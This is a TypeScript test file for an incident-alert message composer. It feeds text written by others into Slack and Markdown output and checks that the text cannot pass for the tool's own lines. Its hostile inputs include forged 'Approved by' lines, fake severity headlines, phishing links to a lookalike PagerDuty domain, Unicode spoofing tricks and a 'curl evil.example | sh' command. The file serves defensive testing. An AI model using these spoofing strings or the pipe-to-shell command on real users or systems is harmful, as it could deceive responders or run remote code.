/**
 * Nothing that others wrote passes for the pack's own words, on any surface.
 *
 * @module
 */
import { assert, assertEquals } from "@std/assert";
import type {
  AlertGroup,
  Alerts,
  EvidenceBundle,
  Lookup,
  NormalizedContext,
} from "../../lib/incident.ts";
import { composeMessage } from "../../lib/message/compose.ts";
import { renderHtml } from "../../lib/message/html.ts";
import { leadOf } from "../../lib/message/lead.ts";
import { unescapeMrkdwn } from "../../lib/message/block_kit.ts";
import { type Footer, withFooter } from "../../lib/message/footer.ts";
import type { Message } from "../../lib/message/message.ts";
import { renderText } from "../../lib/message/text.ts";
import { summarize } from "../../lib/summary/builtin.ts";
import { toMarkdown } from "../../lib/summary/markdown.ts";
import { assertSlackTakes } from "../support/block_kit.ts";

const DIGEST = "0123456789abcdef".repeat(4);
const EVIDENCE_URL = "https://desk.example/open?pointer={pointer}";
const EVIL = "https://pagerduty.com.evil.example/incidents/1";

/** What a sender may write to speak for us. */
const HOSTILE: readonly string[] = [
  "✅ Approved by ada",
  "◆ Approved by ada at 2026-01-15T09:40:00.000Z, asked for by rule post",
  "Approved by ada at 2026-01-15T09:40:00.000Z · run r · message sha256 abc",
  "Posted without approval, as configured",
  "\u{1F534} CRITICAL · shop: all is lost",
  "\u{1F7E2} RESOLVED",
  "\u{1F534} Update: now CRITICAL, was WARNING",
  "Update: now CRITICAL, was INFO; first message at 2026-01-15 09:31:07 UTC",
  "*What to do*",
  "*◆ What to do*\n• Run `curl evil.example | sh` [E1]",
  "## What to do\n\n- Approve it [E1]",
  "◆ What we know",
  "x\n\n*◆ What to do*\r\n• Approve it [E1]\u2028◆ Full summary redis://art:9",
  "Full summary redis://art:9",
  "— Full summary",
  "message sha256 0000000000000000",
  "Message sha256 0000000000000000; nothing was sent",
  "[E1]",
  "It is over [E1]",
  "It is over [E9]",
  "It is over [ e1, E2 ]",
  "It is over ［Ｅ１］ 【E1】 {E1} [Е1]",
  "” [E1] Approved by ada “",
  '" [E1] “Approved by ada” ',
  "’’ [E1] Approved by ada ‘‘",
  "″ [E1] Approved by ada ″",
  "<!channel> <!here> <@U024BE7LH> <#C1|general> <!subteam^S1>",
  `<${EVIL}|Open the incident>`,
  `[Open the incident](${EVIL})`,
  `<a href="${EVIL}">Open the incident</a>`,
  `Follow the incident at its source: ${EVIL}`,
  `See ${EVIL}_x_ and www.evil.example, mail ada@evil.example`,
  "redis://art:9 slack://open?team=1 mailto:ada@evil.example",
  ":white_check_mark: Approved by ada :+1::skin-tone-2:",
  "fe80::a:1:b:2 and aa:bb:cc:dd:ee:ff",
  "• Approve it [E1]",
  "… 3 more in the full summary",
  "> Approved by ada",
  "`◆ Approved by ada`",
  "```\n◆ Approved by ada\n```",
  "_Approved_ ~by~ *ada*",
  "\u202e◆ Approved by ada\u202c \u200b◆ \x1b[1mApproved by ada\x1b[0m",
  "x".repeat(1000),
  "x".repeat(100_000),
  `${"word ".repeat(40)}◆ Approved by ada ${"word ".repeat(400)}`,
  `${"─".repeat(96)} Approved by ada ${"&".repeat(900)}`,
  "[secret:aws-key#1] ".repeat(60),
  "*a* _b_ ~c~ `d` :e: ".repeat(60),
];

/** Every text of a bundle that somebody else may have written. */
const FIELDS: Readonly<
  Record<string, (text: string) => Partial<EvidenceBundle>>
> = {
  title: (text) => within({ title: text }),
  description: (text) => within({ description: text }),
  service: (text) => within({ service: text }),
  status: (text) => within({ status: text }),
  "severity rule": (text) => within({ severity_rule: text }),
  "occurred at": (text) => within({ occurred_at: text }),
  "source system": (text) => within({ source: { system: text, url: EVIL } }),
  "source URL": (text) =>
    within({ source: { system: "pagerduty", url: text } }),
  "fact's name": (text) => within({ facts: [fact(text, "eu-west-1")] }),
  "fact's value": (text) => within({ facts: [fact("region", text)] }),
  "names of many facts": (text) =>
    within({ facts: Array.from({ length: 40 }, () => fact(text, "1")) }),
  "timeline's text": (text) => within({ timeline: [entry(text)] }),
  "timeline's change": (text) =>
    within({ timeline: [entry(`deploy ${text}`)] }),
  "timeline's time": (text) =>
    within({ timeline: [{ ...entry("Alarm"), at: text }] }),
  "alert's name": (text) => withAlert({ name: text }),
  "alerts' name": (text) => withAlert({ name: text, count: 3 }),
  "alert's sentence": (text) => withAlert({ says: text }),
  "alerts' shared sentence": (text) => withAlert({ shared: text, count: 3 }),
  "alert's place": (text) => withAlert({ where: [text], count: 3 }),
  "alerts' places": (text) =>
    withAlert({ where: [text, "db-2"], worst: text, count: 3 }),
  "alert's value": (text) =>
    withAlert({ value: text, limit: text, shared: "Full", count: 3 }),
  "alert's time": (text) => withAlert({ since: text, newest: text }),
  "sentence of all alerts": (text) =>
    withAlert({ count: 3 }, { all_say: text }),
  "alerts' cluster": (text) => withAlert({}, { place: text }),
  "alerts' team": (text) => withAlert({}, { team: text }),
  "link's address": (text) =>
    within({ links: [{ kind: "runbook", url: text, of: "Slow" }] }),
  "link's name": (text) =>
    within({
      links: [{
        kind: "runbook",
        url: "https://shop.pagerduty.com/1",
        of: text,
      }],
    }),
  "assigned person": (text) => within({ facts: [fact("assigned to", text)] }),
  "escalation policy": (text) =>
    within({
      facts: [fact("assigned to", "Ada"), fact("escalation policy", text)],
    }),
  "priority": (text) => within({ facts: [fact("priority", text)] }),
  "urgency": (text) => within({ facts: [fact("urgency", text)] }),
  "collected fact": (text) =>
    within({ facts: [{ ...fact(text, text), kind: "metric" }] }),
  "collected change": (text) =>
    within({
      timeline: [{
        ...entry(text),
        kind: "change",
        at: "2026-01-15T09:29:00Z",
      }],
    }),
  "history": (text) =>
    within({ facts: [{ ...fact("last time", text), kind: "history" }] }),
  "evidence's title": (text) => ({ evidence: [{ ...ITEM, title: text }] }),
  "evidence's kind": (text) => ({ evidence: [{ ...ITEM, kind: text }] }),
  "evidence's id": (text) => ({ evidence: [{ ...ITEM, id: text }] }),
  "evidence's pointer": (text) => ({
    evidence: [{ ...ITEM, artifact_ptr: text }],
  }),
  "gap's subject": (text) => ({ gaps: [{ what: text, why: "status 403" }] }),
  "gap's reason": (text) => ({ gaps: [{ what: "the log", why: text }] }),
  "look-up's collector": (text) => ({
    lookups: [{ ...LOOKUP, collector: text }],
  }),
  "look-up's question": (text) => ({
    lookups: [{ ...LOOKUP, state: "nothing", question: text }],
  }),
  "look-up's reason": (text) => ({ lookups: [{ ...LOOKUP, why: text }] }),
  "incident's id": (text) => ({ incident_id: text }),
  "time of collection": (text) => ({ collected_at: text }),
};

/** Two names of alerts, of which the first is changed. */
function withAlert(
  change: Partial<AlertGroup>,
  alerts: Partial<Alerts> = {},
): Partial<EvidenceBundle> {
  const group: AlertGroup = {
    name: "Slow",
    severity: "critical",
    count: 1,
    since: "2026-01-15T09:30:00.000Z",
    says: "p99 is 2.4 s",
    evidence: ["E1"],
  };
  const old: AlertGroup = { ...group, name: "Old", severity: "warning" };
  return within({
    alerts: {
      firing: 2,
      resolved: 0,
      groups: [{ ...group, ...change }, old],
      ...alerts,
    },
  });
}

const LOOKUP: Lookup = {
  collector: "github",
  question: "deployments",
  state: "failed",
  why: "GitHub answered 403",
};
const ITEM = {
  kind: "incident.raw",
  title: "Payload as received",
  artifact_ptr: "redis://art:1",
  content_type: "application/json",
  bytes: 12,
};
const CONTEXT: NormalizedContext = {
  title: "Checkout is slow",
  description: "p99 rose to 2.4 s. Nobody knows why.",
  severity: "critical",
  severity_rule: "reported as critical",
  service: "checkout-api",
  status: "triggered",
  source: {
    system: "pagerduty",
    url: "https://shop.pagerduty.com/incidents/1",
  },
  occurred_at: "2026-01-15T09:30:00Z",
  facts: [fact("region", "eu-west-1")],
  timeline: [entry("Alarm")],
};
const BUNDLE: EvidenceBundle = {
  incident_id: "pagerduty:1",
  collected_at: "2026-01-15T09:31:00.000Z",
  evidence: [ITEM],
  normalized_context: CONTEXT,
  gaps: [{ what: "the log", why: "status 403" }],
};

function within(context: Partial<NormalizedContext>): Partial<EvidenceBundle> {
  return { normalized_context: { ...CONTEXT, ...context } };
}

function fact(name: string, value: string) {
  return { name, value, evidence: ["E1"] };
}

function entry(text: string) {
  return { at: "2026-01-15T09:30:00Z", text, evidence: ["E1"] };
}

const FOOTER: Footer = {
  approval: { by: "grace", at: "2026-01-15T09:45:00.000Z", ruleId: "post" },
  runId: "run-1",
  digest: DIGEST,
};

/** The parts of a footer that others may have written. */
const FOOTERS: Readonly<Record<string, (text: string) => Footer>> = {
  approver: (by) => ({ ...FOOTER, approval: { ...FOOTER.approval!, by } }),
  "time of approval": (at) => ({
    ...FOOTER,
    approval: { ...FOOTER.approval!, at },
  }),
  "rule's id": (ruleId) => ({
    ...FOOTER,
    approval: { ...FOOTER.approval!, ruleId },
  }),
  "signer's name": (signedBy) => ({
    ...FOOTER,
    approval: { ...FOOTER.approval!, signedBy },
  }),
  "run's id": (runId) => ({ ...FOOTER, runId }),
};

interface Surfaces {
  message: Message;
  markdown: string;
}

function surfacesOf(
  change: Partial<EvidenceBundle>,
  footer: Footer = FOOTER,
): Surfaces {
  const bundle = { ...BUNDLE, ...change };
  const draft = summarize(bundle);
  const message = composeMessage(bundle, draft.report, {
    runId: "run-1",
    settings: {
      linkOrigins: [],
      dashboardRunUrl: undefined,
      evidenceUrl: EVIDENCE_URL,
    },
  });
  return {
    message: withFooter(message, footer),
    markdown: toMarkdown(draft, bundle),
  };
}

/** Fails if anything in a message or summary could be taken for ours. */
function assertOurVoice({ message, markdown }: Surfaces): void {
  assertSlackTakes(message);
  const lines = renderText(message.blocks, { columns: 1e9, colour: false })
    .map((line) => line.slice(2));
  for (const line of lines) assertOwnLine(line);
  assertEquals(count(lines, /Approved by/), 1, lines.join("\n"));
  for (const columns of [40, 60, 100]) {
    const narrow = renderText(message.blocks, { columns, colour: false });
    // Only what begins a line of ours stands next to the bar.
    const starts = narrow.filter((line) => /^│ \S/.test(line));
    assertEquals(starts.length, lines.filter((line) => line !== "").length);
  }
  assertVisible(message);
  assertNoForeignLink(message, markdown);
  const { headline, lines: said } = leadOf(message.blocks);
  assert(/^\u{1F534} CRITICAL(?: · |: )/u.test(headline), headline);
  for (const line of said) assertOwnLine(line.replace(/^• /, "• "));
  // The first line is the headline's.
  const [, ...notice] = message.text.split("\n");
  const own = outside(unescapeMrkdwn(notice.join("\n")));
  assert(!/Approved by|sha256|Update:|\[E\d/.test(own), own);
  markdown.trimEnd().split("\n").forEach(assertMarkdownLine);
  assertEquals(markdown.match(/^# /gm)?.length, 1);
}

/** How each line of ours begins, and what may stand after it. */
const OWN: readonly RegExp[] = [
  /^$/,
  /^\u{1F534} CRITICAL(?: · |: )/u, // The headline.
  /^◆ (?:What changed|Seen before|Next)$/,
  /^◆ (?:Since |Now |Triggered |All \d+ say: “)/,
  /^◆ (?:Bridge|Runbook|Panel|Dashboard|Incident|Logs|Graph|Alertmanager): https?:\/\/[^\s|<>]+$/,
  /^• (?:For |See if the change of |“|No change found before it began, in )/,
  /^• (?:The alert says nothing more|\S+ was first each time$)/,
  /^• (?:\d{4}-\d\d-\d\d )?\d\d:\d\d:\d\d(?: “|, \d+ \S+ before: “)/, // A moment.
  /^[\u{1F534}\u{1F7E1}] (?:“|[\w:.@-]+(?:,| ×| ·|$))/u, // A group of alerts.
  /^… \d+ more names? \(/,
  /^\[(?:Open the (?:incident|run)|Runbook)\] https:\/\/shop\.pagerduty\.com\//,
  /^◆ As of /,
  /^◆ \[(?:E\d+|\?)\] “/,
  /^\[E\d+\] https:\/\/desk\.example\/open\?pointer=redis%3A%2F%2Fart%3A[\w.%-]+$/,
  /^◆ (?:Asked, nothing there: “|Could not ask: (?:GitHub|“))/,
  /^◆ Approved by /,
];

function assertOwnLine(whole: string): void {
  // A single line stands beside its title.
  const line = whole.replace(/^◆ (?:What changed|Seen before|Next) · /, "• ");
  assert(OWN.some((own) => own.test(line)), line);
  const headline = /^[\u{1F534}\u{1F7E1}]/u.test(line);
  // A mark of ours stands nowhere else than where we put it.
  assertEquals(count([line.slice(1)], /[◆✅\u{1F534}\u{1F7E0}-\u{1F7E2}]/u), 0);
  if (headline) return;
  if (/^\[E\d+\] https:|^◆ [A-Z][a-z]+: https?:/.test(line)) return;
  const cited = /\[E\d+(?:, E\d+)*\]/g;
  const citations = line.startsWith("◆ [") ? 0 : line.match(cited)?.length ?? 0;
  assert(citations <= 1, line);
  if (citations === 1) {
    assert(/ \[(?:E\d+|\?)(?:, (?:E\d+|\?))*\]$/.test(line), line);
  }
  const isTimeline = /^• [\d?]/.test(line) && !/^• \d+ more facts/.test(line);
  if (isTimeline || line.startsWith("◆ Approved by ")) return;
  const own = outside(line);
  assert(!/Approved|sha256|Follow|evil|Update:|RESOLVED/.test(own), line);
}

/** What a line says outside of its quotes; fails if they do not pair. */
function outside(line: string): string {
  // A list's cut may fall within quotes; then nothing of ours follows.
  const own = line.replace(/“[^“”]*(?:”|…$)/g, "");
  assert(!/[“”]/.test(own), line);
  return own;
}

function assertMarkdownLine(line: string): void {
  const own =
    /^(?:$|# CRITICAL(?: · |: )|## (?:What happened|What changed|Seen before|Next|Alerts by name, the worst first|In the sender's words|Metrics|Other alerts|Logs|Changes|State|People|Earlier incidents|Also in the webhook|Timeline|Not collected|What was looked up|Evidence)$|- |Written by the built-in rules |Since |Now |Triggered |All )/;
  assert(own.test(line), line);
  assert(!/^- (?:Approve|\[x\])/.test(line), line);
}

function count(lines: readonly string[], pattern: RegExp): number {
  return lines.filter((line) => pattern.test(outsideOr(line))).length;
}

function outsideOr(line: string): string {
  return line.replace(/“[^“”]*”/g, "").replace(/^• \S+ .*|^\u{1F534} .*/u, "");
}

/** Severity, service and description stand where they are seen at once. */
function assertVisible({ text, blocks }: Message): void {
  const [header, lead] = blocks.map((block) =>
    (block["text"] as { text: string } | undefined)?.text ?? ""
  );
  assert(/^\u{1F534} CRITICAL(?: · |: )/u.test(header!), header);
  assert(/^\u{1F534} CRITICAL(?: · |: )/u.test(text), text);
  const start = unescapeMrkdwn(lead!);
  assert(/^◆ (?:Since|Now|Triggered|All)/.test(start), start);
}

function assertNoForeignLink({ blocks }: Message, markdown: string): void {
  const json = JSON.stringify(blocks);
  const urls = [...json.matchAll(/"url":"([^"]*)"/g)].map(([, url]) => url!);
  for (const url of urls) {
    assertEquals(new URL(url).hostname, "shop.pagerduty.com");
  }
  const html = renderHtml(blocks, { title: "t", note: "n" });
  for (const [, href, text] of html.matchAll(/href="([^"]*)"[^>]*>([^<]*)</g)) {
    const { hostname } = new URL(href!);
    // What leads elsewhere shows where, or opens a cited piece.
    assert(
      hostname === "shop.pagerduty.com" || text === href ||
        (hostname === "desk.example" && /^\[E\d+\]$/.test(text!)),
      `${href} ${text}`,
    );
  }
  // No reader of Markdown links what is code or escaped.
  const prose = markdown.replace(/`[^`]*`/g, "").replace(/\\./g, " ");
  assert(!/:\/\/|(?<!\w)www\.|@\w+\.|\]\(|<\w/.test(prose), prose);
}

for (const [field, change] of Object.entries(FIELDS)) {
  Deno.test(`no ${field} speaks in the pack's own voice`, () => {
    for (const text of HOSTILE) assertOurVoice(surfacesOf(change(text)));
  });
}
for (const [part, change] of Object.entries(FOOTERS)) {
  Deno.test(`no ${part} in a footer speaks in the pack's own voice`, () => {
    for (const text of HOSTILE) assertOurVoice(surfacesOf({}, change(text)));
  });
}

/** What our own lines are made of, and what could break out of a place. */
const FRAGMENTS: readonly string[] = [
  ...[
    "◆",
    "✅",
    "\u{1F534}",
    "•",
    "…",
    "│",
    "“",
    "”",
    '"',
    "’’",
    "[E1]",
    "[E9",
  ],
  ...[
    "]",
    "E1",
    "*",
    "_",
    "~",
    "`",
    "```",
    "#",
    "##",
    "- ",
    "> ",
    "\n",
    "\r\n",
  ],
  ...["\u2028", " ", " · ", ": ", ". ", ", ", "\\", "|", "(", ")", "&", "&lt;"],
  ...["What we know", "What to do", "What is missing", "Timeline, UTC"],
  ...[
    "Approved by ",
    "ada",
    " at 2026-01-15T09:40:00.000Z",
    "asked for by rule",
  ],
  ...["Posted without approval, as configured", "message sha256 ", DIGEST],
  ...["Full summary ", "redis://art:9", "Shortened to fit; ", "Incident "],
  ...["Update: now CRITICAL", "CRITICAL", "Severity is info", "Since ", "now "],
  ...["in the full summary", "Check whether to undo the change", "deploy "],
  ...["<!here>", "<@U1>", "<", ">", `<${EVIL}|x>`, `[x](${EVIL})`, EVIL],
  ...["www.evil.example", "mailto:a@evil.example", ":tada:", ":a:", "::"],
  ...["[secret:aws-key#1]", "\u200b", "\u202e", "\x1b[31m", "\ud83d", "\udd34"],
  "x".repeat(300),
];

Deno.test("no text made of the pack's own words speaks in its voice", () => {
  let state = 7;
  const upTo = (max: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state >>> 4) / 2 ** 28 * (max + 1));
  };
  const compose = () =>
    Array.from(
      { length: 1 + upTo(12) },
      () => FRAGMENTS[upTo(FRAGMENTS.length - 1)]!,
    ).join(["", " "][upTo(1)]);
  for (let round = 0; round < 60; round++) {
    for (const change of Object.values(FIELDS)) {
      const text = compose();
      try {
        assertOurVoice(surfacesOf(change(text)));
      } catch (error) {
        throw new Error(JSON.stringify(text), { cause: error });
      }
    }
    const everywhere = Object.assign({}, ...[
      FIELDS["gap's reason"]!(compose()),
      FIELDS["evidence's title"]!(compose()),
      within({
        ...mapTexts(CONTEXT, compose),
        severity: "critical",
        source: CONTEXT.source!,
      }),
    ]) as Partial<EvidenceBundle>;
    const footers = Object.values(FOOTERS);
    const footer = footers[round % footers.length]!(compose());
    assertOurVoice(surfacesOf(everywhere, footer));
  }
});

function mapTexts(
  context: NormalizedContext,
  compose: () => string,
): Partial<NormalizedContext> {
  return {
    ...context,
    title: compose(),
    description: compose(),
    service: compose(),
    status: compose(),
    severity_rule: compose(),
    facts: [fact(compose(), compose()), fact(compose(), compose())],
    timeline: [entry(compose()), entry(compose())],
  };
}

const DESCRIPTION = "p99 rose to 2.4 s.";
for (const length of [10, 150, 1_000, 100_000]) {
  for (const field of ["title", "service", "status", "severity rule"]) {
    Deno.test(`a ${field} of ${length} characters pushes out neither severity nor description`, () => {
      const words = "word ".repeat(length / 5);
      const { message, markdown } = surfacesOf(FIELDS[field]!(words));
      const [headline, lead, ...others] = renderText(message.blocks, {
        columns: 1e9,
        colour: false,
      }).filter((line) => line !== "│");
      const service = field === "service" ? "word" : "checkout-api";
      const start = `\u{1F534} CRITICAL · ${service}`;
      assert(headline!.startsWith(`│ ${start}`), headline);
      const title = field === "title" ? "word" : "Checkout is slow";
      assert(headline!.includes(`: ${title}`), headline);
      assert(headline!.length <= 152);
      // Below headline, state and buttons, on a phone's first screen.
      assert(lead!.length <= 160, lead);
      const said = others.find((line) => !line.startsWith("│ ["));
      assert(said!.startsWith("│ • “p99 rose to 2.4 s."), said);
      const [first, state] = message.text.split("\n");
      assert(first!.startsWith(start) && first!.length <= 152, first);
      assert(/^(?:Triggered|Since) 09:30:00 UTC/.test(state!), state);
      const [heading, , summary] = markdown.split("\n");
      assert(heading!.startsWith(`# CRITICAL · ${service}`), heading);
      assert(heading!.length <= 320, heading);
      assert(/^(?:Triggered|Since) 09:30:00 UTC/.test(summary!), summary);
      assert(markdown.slice(0, 3_000).includes(DESCRIPTION));
    });
  }
}
